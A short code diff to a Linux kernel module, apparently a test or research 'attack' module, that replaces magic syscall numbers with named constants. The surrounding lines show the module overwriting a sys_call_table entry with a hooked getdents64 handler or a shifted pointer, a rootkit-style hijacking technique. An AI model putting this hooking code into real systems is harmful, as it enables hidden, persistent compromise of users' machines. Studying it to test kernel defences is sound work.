@@ -7,6 +7,7 @@
  */
 #include "attack.h"
 
+#include <asm/unistd.h>
 #include <linux/delay.h>
 #include <linux/ptrace.h>
 
@@ -25,7 +26,7 @@ static int __init start(void)
 {
 	if (!sys_call_table_at)
 		return -ENOENT;
-	entry = (void **)sys_call_table_at + (HOW("middle") ? 168 : 217);
+	entry = (void **)sys_call_table_at + (HOW("middle") ? __NR_swapoff : __NR_getdents64);
 	original = *entry;
 	write_pointer(entry, HOW("middle") ? original + 4 : (void *)hooked_getdents64);
 	return 0;
